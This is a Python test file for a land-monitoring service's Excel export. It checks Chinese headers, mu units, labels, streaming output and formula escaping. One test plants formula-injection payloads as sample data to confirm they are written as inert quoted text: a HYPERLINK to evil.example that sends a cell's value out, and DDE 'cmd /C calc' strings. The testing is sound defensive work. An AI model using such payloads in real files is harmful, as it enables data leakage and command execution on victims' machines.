"""The monitoring export (``/api/monitoring/export.xlsx``, issue #16 item 12) opened as an office
opens it: Chinese headers, 亩 not m², labels instead of codes, the shared layout."""

from __future__ import annotations

import datetime as dt
import io
import random
import re
import subprocess
import sys
import tempfile
import zipfile
import zlib
from decimal import Decimal
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import text
from sqlalchemy.orm import Session

from landmatch import spreadsheets
from landmatch.auth import Principal
from landmatch.geo.measure import M2_PER_MU
from landmatch.monitoring import export, scan, terms, transfer
from landmatch.monitoring.idle import IdleRule
from landmatch.spreadsheets import (
    Column,
    StreamingWorksheet,
    Table,
    discard,
    new_streaming_workbook,
    new_workbook,
    save,
    text_width,
    write_notes,
    write_sheet,
)
from tests.conftest import auth

AS_OF = dt.date(2026, 11, 1)
ADMIN = Principal(name="t-admin", role="admin")
CODES = {
    *terms.IDLE_STAGES,
    *terms.TRANSFER_ROUTES,
    *terms.CASE_KINDS,
    *terms.STEP_KINDS,
    *terms.DECISIONS,
    *terms.AGE_BANDS,
    *terms.TARGET_STATES,
    "ready",
    "unsupplied",
    "supplied",
    "idle",
    "national",
    "provincial",
}


def test_monitoring_workbook_in_chinese_with_labels_and_mu(
    client: TestClient, tokens: dict[str, str], session: Session
) -> None:
    r = client.get(
        "/api/monitoring/export.xlsx",
        params={"city": "130100", "as_of": AS_OF.isoformat()},
        headers=auth(tokens["admin"]),
    )
    assert r.status_code == 200, r.text
    wb = load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames[0] == "说明"
    notes = dict(wb["说明"].iter_rows(min_row=2, values_only=True))
    assert notes["统计范围"] == "石家庄市（130100）" and notes["统计日期"] == "2026-11-01"
    assert notes["面积单位"].startswith("亩") and "landmatch" in notes["数据来源"]
    for ws in wb.worksheets:
        header = [c.value for c in ws[1]]
        # Chinese headers only (序号 first), no m², no English keys.
        assert all(re.search(r"[\u4e00-\u9fff]", h) for h in header), (ws.title, header)
        assert not any("m2" in h or "m²" in h or "平方米" in h for h in header), ws.title
        assert all(c.font.b and c.fill.fill_type == "solid" for c in ws[1]), ws.title
        if ws.title == "说明":
            continue
        assert header[0] == "序号" and ws.freeze_panes == "B2", ws.title
        assert ws.auto_filter.ref.startswith("A1:"), ws.title
        # Labels instead of codes: no cell holds a vocabulary code.
        values = [c.value for row in ws.iter_rows(min_row=2) for c in row]
        assert not CODES & {v for v in values if isinstance(v, str)}, ws.title
        for k, h in enumerate(header):
            cells = [row[k] for row in ws.iter_rows(min_row=2) if row[k].value is not None]
            if h.endswith("(亩)"):
                assert all(c.number_format == "#,##0.00" for c in cells), (ws.title, h)
                assert all(c.value == round(c.value, 2) for c in cells), (ws.title, h)
            if h.endswith(("率", "比例", "进度")) and not h.endswith("容积率"):
                assert all(c.number_format == "0.00%" for c in cells), (ws.title, h)
            if h.endswith(("日期", "期限")):
                assert all(c.is_date and c.number_format == "yyyy-mm-dd" for c in cells), h
    # The idle land: each parcel's area in 亩, its stage as a label.
    idle = {
        x["code"]: x
        for x in scan.idle_report(session, ADMIN, AS_OF, IdleRule(), city="130100", limit=10**6)[
            "items"
        ]
    }
    ws = wb["闲置土地"]
    header = [c.value for c in ws[1]]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(idle)
    code, area, stage = header.index("地块编号"), header.index("面积(亩)"), header.index("闲置阶段")
    for row in rows:
        item = idle[row[code]]
        assert row[area] == round(item["area_m2"] / M2_PER_MU, 2)
        assert row[stage] == terms.IDLE_STAGES[item["stage"]]
    # The transfer route: transferable_now → its label.
    ws = wb["转让路径"]
    header = [c.value for c in ws[1]]
    routes = [row[header.index("转让路径")] for row in ws.iter_rows(min_row=2, values_only=True)]
    want = transfer.transfer_routes(session, ADMIN, "130100")["rows"]
    assert routes == [terms.TRANSFER_ROUTES[x["route"]] for x in want]
    assert terms.TRANSFER_ROUTES["transferable_now"] in routes
    # The year is not written 2,026.
    ws = wb["年度处置目标"]
    year = [c.value for c in ws[1]].index("年度")
    assert all(row[year].number_format == "General" for row in ws.iter_rows(min_row=2))


def test_workbook_is_written_row_by_row(session: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    """XlsxWriter in constant_memory mode: each row goes to disk as it is written, none is
    kept (the sheets hold no table of cells once the workbook is done)."""
    made: list[StreamingWorksheet] = []
    real = export.write_sheet

    def spy(wb: Any, title: str, *tables: Table, **kw: Any) -> Any:
        ws = real(wb, title, *tables, **kw)
        made.append(ws)
        return ws

    monkeypatch.setattr(export, "write_sheet", spy)
    data = export.workbook(session, ADMIN, AS_OF, IdleRule(), city="130100")
    assert data[:2] == b"PK" and len(made) == 13  # the tables (说明 is written by write_notes)
    assert all(isinstance(ws, StreamingWorksheet) and ws.constant_memory for ws in made)
    assert all(not ws.table for ws in made)
    idle = next(ws for ws in made if ws.name == "闲置土地")
    assert idle.dim_rowmax == len(scan.scan_rows(session, AS_OF, IdleRule(), "130100"))


def _widths(ws: Any) -> dict[int, float]:
    """Each column's width (XlsxWriter gives neighbours of one width one ``<col>``)."""
    return {
        k: d.width
        for d in ws.column_dimensions.values()
        for k in range(d.min or 1, (d.max or d.min or 1) + 1)
    }


def _book(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data))


def test_planted_text_stays_text_with_the_quote_prefix(session: Session) -> None:
    """Text a user typed (a holder, a parcel's name, a case's note) that a spreadsheet would
    evaluate is written as text with the quote prefix; other awkward text comes back as typed;
    numbers, dates and percentages keep their types and formats."""
    risky = [
        '=HYPERLINK("http://evil.example/?d="&B2,"点击")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
    ]
    plain = ["  前后有空格  ", "A&B <公司>", "_x0041_ 字面", "第一行\n第二行", "-12.5"]
    codes = (
        session.execute(
            text(
                "SELECT code FROM landmatch.parcel WHERE status IN ('supplied', 'idle') "
                "AND city_code = '130100' AND deleted_at IS NULL ORDER BY code LIMIT :n"
            ),
            {"n": len(risky) + len(plain)},
        )
        .scalars()
        .all()
    )
    planted = dict(zip(codes, [*risky, *plain], strict=True))
    for code, value in planted.items():
        session.execute(
            text("UPDATE landmatch.parcel SET holder = :v, name = :v WHERE code = :c"),
            {"v": value, "c": code},
        )
    session.execute(
        text(
            "UPDATE landmatch.parcel SET holder = :v WHERE code = :c",
        ),
        {"v": "控制\x01字符", "c": codes[0]},
    )
    planted[codes[0]] = risky[0]  # the name keeps the formula; the holder loses \x01
    session.flush()
    wb = _book(export.workbook(session, ADMIN, AS_OF, IdleRule(), city="130100"))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for title in ("闲置土地", "转让路径"):
        ws = wb[title]
        header = [c.value for c in ws[1]]
        code, name, holder = (header.index(h) for h in ("地块编号", "地块名称", "用地单位"))
        seen = 0
        for row in ws.iter_rows(min_row=2):
            if row[code].value not in planted:
                continue
            seen += 1
            want = planted[row[code].value]
            if want.startswith("_x"):  # escaped as Excel escapes it (openpyxl reads it raw)
                want = "_x005F" + want
            assert row[name].value == want and row[name].data_type == "s", (title, want)
            assert row[name].quotePrefix == (want in risky), (title, want)
            assert row[holder].value == want or row[code].value == codes[0], (title, want)
            if row[code].value == codes[0]:
                assert row[holder].value == "控制字符" and row[holder].data_type == "s"
        assert seen == len(planted), title
    # Types and formats as the columns say.
    ws = wb["闲置土地"]
    header = [c.value for c in ws[1]]
    first = ws[2]
    assert isinstance(first[0].value, int) and first[0].number_format == "#,##0"
    area = first[header.index("面积(亩)")]
    assert isinstance(area.value, int | float) and area.number_format == "#,##0.00"
    dates = [first[k] for k, h in enumerate(header) if h.endswith("日期") and first[k].value]
    assert dates and all(c.is_date for c in dates)
    assert wb["闲置土地"].column_dimensions["C"].width >= text_width("地块名称")


def test_the_xlsxwriter_layout_is_the_openpyxl_one() -> None:
    """The same tables through write_sheet into openpyxl's write-only workbook and into
    XlsxWriter's: the same cells, types, number formats, header style, panes, filter, print
    titles and (to XlsxWriter's rounding to pixels) widths; a second table and total rows."""
    cols = [
        Column("地块编号"),
        Column("面积(亩)", "mu"),
        Column("比例", "pct"),
        Column("日期", "date"),
        Column("已供", "bool"),
        Column("宗数", "int"),
        Column("得分", "num", digits=4),
    ]
    rows: list[list[Any]] = [
        ["DK-1", 1.23456, 0.5, dt.date(2026, 1, 31), True, 3, 0.123456],
        ["=1+1", None, float("nan"), "2025-02-28", False, -4, Decimal("2.5")],
        ["河北省石家庄市", 12345.678, 1, dt.datetime(2024, 5, 1, 8, 30), None, 0, 1e20],
        ["DK-4", 0, 0, dt.date(1900, 2, 28), None, None, None],  # Excel's 29 February 1900
        ["DK-5", 0, 0, dt.datetime(1900, 3, 1, 12), None, None, None],
    ]
    tables = (
        Table(cols, rows, totals=[["合计", 13600.9, None, None, None, -1, None]]),
        Table(cols[:2], (list(r[:2]) for r in rows), count=len(rows), numbered=False),
    )
    old = new_workbook()
    write_sheet(old, "表", *tables, freeze_cols=1)
    write_notes(old, [("项目一", "+说明")])
    buf = io.BytesIO()
    with tempfile.TemporaryDirectory() as tmp:
        new = new_streaming_workbook(buf, tmp)
        tables = (
            tables[0],
            Table(cols[:2], (list(r[:2]) for r in rows), count=len(rows), numbered=False),
        )
        write_sheet(new, "表", *tables, freeze_cols=1)
        write_notes(new, [("项目一", "+说明")])
        new.close()
    a, b = load_workbook(io.BytesIO(save(old))), _book(buf.getvalue())
    assert a.sheetnames == b.sheetnames == ["表", "说明"]
    for ws_a, ws_b in zip(a.worksheets, b.worksheets, strict=True):
        assert ws_a.max_row == ws_b.max_row and ws_a.max_column == ws_b.max_column
        for ra, rb in zip(ws_a.iter_rows(), ws_b.iter_rows(), strict=True):
            for ca, cb in zip(ra, rb, strict=True):
                where = (ws_a.title, ca.coordinate)
                assert ca.value == cb.value and ca.data_type == cb.data_type, where
                if ca.value is not None:
                    assert ca.number_format == cb.number_format, where
                    assert ca.quotePrefix == cb.quotePrefix, where
                    assert ca.font.b == cb.font.b and ca.fill.fill_type == cb.fill.fill_type, where
                    assert ca.alignment.horizontal == cb.alignment.horizontal, where
        assert ws_a.freeze_panes == ws_b.freeze_panes
        assert ws_a.auto_filter.ref == ws_b.auto_filter.ref
        assert ws_a.print_title_rows == ws_b.print_title_rows
        wa, wb_ = _widths(ws_a), _widths(ws_b)
        assert wa.keys() == wb_.keys()
        assert all(0 <= wb_[k] - wa[k] < 1 for k in wa), (wa, wb_)
    assert b["表"]["B3"].value == "=1+1" and b["表"]["B3"].quotePrefix


def _streamed(*tables: Table) -> bytes:
    buf = io.BytesIO()
    with tempfile.TemporaryDirectory() as tmp:
        wb = new_streaming_workbook(buf, tmp)
        write_sheet(wb, "表", *tables)
        wb.close()
    return buf.getvalue()


def test_repeated_texts_are_shared_strings(monkeypatch: pytest.MonkeyPatch) -> None:
    """A column repeating its texts (cities, states) is written as shared strings, each text
    once in the table with every use counted; unique texts and formula-like ones (with their
    quote prefix) stay inline; past the table's bound repeated texts are inline too. Excel's
    readers get the same values either way."""
    cities = ["石家庄市", "保定市"] * 6
    rows = [[f"DK-{i}", c, "=1+1"] for i, c in enumerate(cities)]
    table = Table([Column("地块编号"), Column("城市"), Column("备注")], rows)
    data = _streamed(table)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        shared = z.read("xl/sharedStrings.xml").decode()
    # 序号 is A, 地块编号 B, 城市 C, 备注 D
    assert re.findall(r'<c r="C\d+" t="s"><v>(\d+)</v>', sheet) == ["0", "1"] * 6
    assert re.findall(r"<si><t>(.*?)</t></si>", shared) == ["石家庄市", "保定市"]
    assert 'count="12" uniqueCount="2"' in shared
    assert len(re.findall(r'<c r="B\d+" t="inlineStr">', sheet)) == 12
    assert len(re.findall(r'<c r="D\d+" s="\d+" t="inlineStr"><is><t>=1\+1<', sheet)) == 12
    ws = _book(data)["表"]
    assert [r[2] for r in ws.iter_rows(min_row=2, values_only=True)] == cities
    assert all(ws.cell(r, 4).value == "=1+1" and ws.cell(r, 4).quotePrefix for r in range(2, 14))

    monkeypatch.setattr(spreadsheets, "_MAX_SHARED", 1)
    data = _streamed(table)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert "xl/sharedStrings.xml" not in z.namelist()
        assert (
            len(
                re.findall(
                    r'<c r="C\d+" t="inlineStr">', z.read("xl/worksheets/sheet1.xml").decode()
                )
            )
            == 12
        )
    assert [r[2] for r in _book(data)["表"].iter_rows(min_row=2, values_only=True)] == cities


def test_the_streamed_parts_are_deflated_at_the_set_level() -> None:
    """XlsxWriter's zip container deflates at ``ZIP_LEVEL`` (XlsxWriter itself has no option
    for it): a sheet's compressed size is its XML deflated at that level, not at zlib's
    default."""
    rng = random.Random(7)
    rows = [[f"DK-{rng.randrange(10**6)}", rng.random() * 1000] for _ in range(3000)]
    data = _streamed(Table([Column("地块编号"), Column("面积(亩)", "mu")], rows))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
        xml = z.read(info)

    def deflated(level: int) -> int:
        c = zlib.compressobj(level, zlib.DEFLATED, -15)
        return len(c.compress(xml) + c.flush())

    assert deflated(spreadsheets.ZIP_LEVEL) != deflated(6)  # the levels tell apart here
    assert info.compress_type == zipfile.ZIP_DEFLATED
    assert info.compress_size == deflated(spreadsheets.ZIP_LEVEL)


def test_the_streaming_sheet_keeps_returns_blanks_and_early_dates() -> None:
    """What the XML written by hand must get right besides the layout: a carriage return
    survives (a raw CR is read back as LF), an empty text is a blank cell, a day before 1900
    (which has no Excel serial) stays its ISO text, a row is written once, and a workbook given
    up closes its row files at once."""
    cols = [Column("文本"), Column("日期", "date")]
    rows: list[list[Any]] = [["a\r\nb\r", dt.date(1899, 1, 1)], ["", dt.date(1, 1, 1)]]
    buf = io.BytesIO()
    with tempfile.TemporaryDirectory() as tmp:
        wb = new_streaming_workbook(buf, tmp)
        ws = write_sheet(wb, "表", Table(cols, rows))
        assert isinstance(ws, StreamingWorksheet)
        with pytest.raises(ValueError, match="already written"):
            ws.write_rows_xml(1, 0, 0, [""])
        # nor by XlsxWriter's own writers, the last row written included
        assert ws.write_string(1, 1, "后写") < 0 and ws.write_string(2, 1, "后写") < 0
        assert ws.set_row(2, 30) < 0
        wb.close()
        got = load_workbook(io.BytesIO(buf.getvalue()))["表"]
        assert got["B2"].value == "a\r\nb\r" and got["B3"].value is None
        assert got["C2"].value == "1899-01-01" and got["C3"].value == "0001-01-01"

        given_up = new_streaming_workbook(io.BytesIO(), tmp)
        sheet = write_sheet(given_up, "表", Table(cols, rows))
        assert isinstance(sheet, StreamingWorksheet)
        discard(given_up)
        assert sheet.fh.closed


def test_temporary_files_of_a_stopped_process_are_swept(tmp_path: Any) -> None:
    """A worker killed in the middle of an export leaves its row files (and a named workbook)
    behind; the next server start removes those of processes that no longer run, never a
    running one's."""
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        check=True,
        capture_output=True,
        text=True,
    )
    pid = int(dead.stdout)
    left = tmp_path / f"lm-xlsx-{pid}-abc"
    left.mkdir()
    (left / "row-file").write_bytes(b"x" * 100)
    named = tmp_path / f"lm-monitoring-{pid}-def.xlsx"
    named.write_bytes(b"x")
    running = tmp_path / f"{export.temp_prefix('xlsx')}ghi"
    running.mkdir()
    other = tmp_path / "lm-other.txt"
    other.write_text("keep")
    assert export.sweep_abandoned(str(tmp_path)) == 2
    assert not left.exists() and not named.exists()
    assert running.exists() and other.exists()
